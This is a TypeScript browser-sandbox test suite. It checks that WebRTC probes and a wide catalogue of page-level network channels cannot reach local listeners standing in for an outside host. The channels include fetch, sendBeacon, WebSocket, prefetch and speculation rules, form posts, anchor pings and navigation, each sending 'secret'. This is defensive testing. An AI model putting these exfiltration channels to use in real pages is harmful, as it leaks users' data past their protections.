import dgram from "node:dgram";
import { once } from "node:events";
import { mkdtempSync, rmSync } from "node:fs";
import net from "node:net";
import { networkInterfaces, tmpdir } from "node:os";
import { join } from "node:path";
import { fileURLToPath } from "node:url";
import { chromium, type Page } from "playwright-core";
import { afterAll, beforeAll, beforeEach, describe, expect, it } from "vitest";
import { findBrowser, thisMachine } from "#main/host/chromium/find-browser.ts";
import { launchOptions } from "#main/host/chromium/launch-options.ts";
import { launchApp, type LaunchedApp } from "#test/helpers/launch-app.ts";

const here = (path: string) => fileURLToPath(new URL(path, import.meta.url));
const folder = mkdtempSync(join(tmpdir(), "greffe-test-"));
/** Longer than WebRTC waits before it asks a server or a peer again. */
const QUIET_MS = 1500;

interface Outside {
  readonly ip: string;
  readonly udp: number;
  readonly tcp: number;
}

const outside: Outside[] = [];
const heard = new Set<string>();
const closing: (() => void)[] = [];

/** Somebody who listens, on this machine and at the address it has on its network. */
async function listenAt(ip: string): Promise<Outside> {
  const socket = dgram.createSocket("udp4");
  socket.on("message", () => heard.add(`UDP ${ip}`));
  socket.bind(0, ip);
  await once(socket, "listening");
  const server = net.createServer((connection) => {
    heard.add(`TCP ${ip}`);
    connection.on("error", () => {});
    connection.end();
  });
  server.listen(0, ip);
  await once(server, "listening");
  closing.push(
    () => socket.close(),
    () => server.close(),
  );
  const { port } = server.address() as net.AddressInfo;
  return { ip, udp: socket.address().port, tcp: port };
}

function addressesHere(): string[] {
  const all = Object.values(networkInterfaces()).flatMap((ones) => ones ?? []);
  return all.filter(({ family }) => family === "IPv4").map(({ address }) => address);
}

beforeAll(async () => {
  for (const ip of addressesHere()) outside.push(await listenAt(ip));
});
beforeEach(() => heard.clear());
afterAll(() => {
  for (const close of closing) close();
  rmSync(folder, { recursive: true, force: true });
});

/** Tries each peer-to-peer way in the page, and answers how many connections it could make. */
async function tryPeers(page: Page): Promise<number> {
  return page.evaluate(async (targets) => {
    const frame = document.createElement("iframe");
    document.body.append(frame);
    const found = [globalThis, frame.contentWindow].flatMap((owner) =>
      ["RTCPeerConnection", "webkitRTCPeerConnection"].map(
        (name) => Reflect.get(owner ?? {}, name) as typeof RTCPeerConnection | undefined,
      ),
    );
    const Peer = found.find((one) => one !== undefined);
    if (Peer === undefined) return 0;
    const begin = async (servers: RTCIceServer[]) => {
      const peer = new Peer({ iceServers: servers });
      peer.createDataChannel("x");
      await peer.setLocalDescription(await peer.createOffer());
      return peer;
    };
    let made = 0;
    for (const { ip, udp, tcp } of targets) {
      const account = { username: "secret-in-username", credential: "x" };
      await begin([{ urls: `stun:${ip}:${udp}` }]);
      await begin([{ urls: `turn:${ip}:${udp}?transport=udp`, ...account }]);
      await begin([{ urls: `turn:${ip}:${tcp}?transport=tcp`, ...account }]);
      // The other side's answer is the page's own: what it says is in the name of the check.
      const peer = await begin([]);
      const sdp = [
        ..."v=0 o=-_1_1_IN_IP4_0.0.0.0 s=- t=0_0 a=group:BUNDLE_0".split(" "),
        "m=application 9 UDP/DTLS/SCTP webrtc-datachannel",
        ..."c=IN_IP4_0.0.0.0 a=ice-ufrag:secret1234567890".split(" "),
        `a=ice-pwd:${"p".repeat(24)}`,
        `a=fingerprint:sha-256 ${Array.from({ length: 32 }, () => "AA").join(":")}`,
        ..."a=setup:active a=mid:0 a=sctp-port:5000".split(" "),
        `a=candidate:1 1 udp 2130706431 ${ip} ${udp} typ host`,
        "",
      ].map((line, at) => (at < 5 || line.startsWith("c=") ? line.replaceAll("_", " ") : line));
      await peer.setRemoteDescription({ type: "answer", sdp: sdp.join("\r\n") });
      made += 4;
    }
    return made;
  }, outside);
}

async function inBrowser(args: readonly string[], work: (page: Page) => Promise<void>) {
  const found = findBrowser(thisMachine, true);
  if (found === null) throw new Error("no browser was found");
  const browser = await chromium.launch({
    ...(await launchOptions(found, true, folder)),
    args: [...args],
    chromiumSandbox: false,
  });
  try {
    const page = await browser.newPage();
    await page.route("**/*", (route) =>
      route.fulfill({ contentType: "text/html", body: "<body>" }),
    );
    await page.goto("https://greffe.invalid/");
    await work(page);
  } finally {
    await browser.close();
  }
}

describe("WebRTC, which no policy of a page closes", () => {
  it("is heard outside from any other browser, so that the next tests can fail", async () => {
    await inBrowser([], async (page) => {
      expect(await tryPeers(page)).toBe(4 * outside.length);
      await expect.poll(() => [...heard].some((one) => one.startsWith("UDP"))).toBe(true);
    });
  });

  it("reaches nobody under the stand-in's switches, even where a page has it", async () => {
    const found = findBrowser(thisMachine, true);
    if (found === null) throw new Error("no browser was found");
    const { args } = await launchOptions(found, true, folder);
    await inBrowser(args ?? [], async (page) => {
      expect(await tryPeers(page)).toBe(4 * outside.length);
      await page.waitForTimeout(QUIET_MS);
      expect([...heard]).toEqual([]);
    });
  });
});

describe("a hostile page in the application", () => {
  let app: LaunchedApp;
  beforeAll(async () => {
    app = await launchApp({
      configDir: join(folder, "config"),
      bundleDir: here("../integration/host/page"),
      vaultEntry: here("../integration/host/fake-vault.ts"),
    });
  });
  afterAll(() => app.close());

  it("has no WebRTC, nor a frame that has", async () => {
    expect(await tryPeers(app.page)).toBe(0);
    const left = await app.page.evaluate(() =>
      Object.getOwnPropertyNames(globalThis).filter((name) => /RTC/u.test(name)),
    );
    expect(left).toEqual([]);
  });

  it("reaches nobody by any way there is out of a page", async () => {
    await app.page.evaluate(async (targets) => {
      const { body } = document;
      for (const { ip, udp, tcp } of targets) {
        const url = `http://${ip}:${tcp}/secret`;
        await fetch(url, { mode: "no-cors", keepalive: true }).catch(() => null);
        new Image().src = url;
        navigator.sendBeacon(url, "secret");
        const tries = [
          () => new WebSocket(`ws://${ip}:${tcp}/secret`),
          () => new EventSource(url),
          () => new WebTransport(`https://${ip}:${udp}/secret`).ready.catch(() => null),
          () => new Worker(url),
          () => navigator.serviceWorker.register(url).catch(() => null),
          () => void new FontFace("secret", `url(${url})`).load().catch(() => null),
          () => new XMLHttpRequest().open("GET", url, false),
        ];
        for (const one of tries) {
          try {
            one();
          } catch {
            // Refused at once: whether anybody heard of it is what is looked at.
          }
        }
        for (const rel of "preconnect dns-prefetch prefetch preload modulepreload prerender".split(
          " ",
        ))
          document.head.append(
            Object.assign(document.createElement("link"), { rel, href: url, as: "image" }),
          );
        const rules = document.createElement("script");
        rules.type = "speculationrules";
        const list = [{ source: "list", urls: [url] }];
        rules.textContent = JSON.stringify({ prefetch: list, prerender: list });
        document.head.append(rules);
        for (const name of ["iframe", "embed", "video", "script", "track"])
          body.append(Object.assign(document.createElement(name), { src: url }));
        body.append(Object.assign(document.createElement("object"), { data: url }));
        for (const [method, target] of [
          ["get", ""],
          ["post", ""],
          ["post", "_blank"],
        ] as const) {
          const form = Object.assign(document.createElement("form"), {
            action: url,
            method,
            target,
          });
          body.append(form);
          form.submit();
        }
        body.append(Object.assign(document.createElement("a"), { href: url, ping: url }));
        body.querySelector("a")?.click();
        window.open(url);
        window.open(url, "_blank", "noopener");
        location.href = url;
      }
    }, outside);
    await app.page.waitForTimeout(QUIET_MS);
    expect([...heard]).toEqual([]);
    expect(app.page.url()).toMatch(/^(?:https:\/\/greffe\.invalid|app:\/\/greffe)\//u);
  });
});
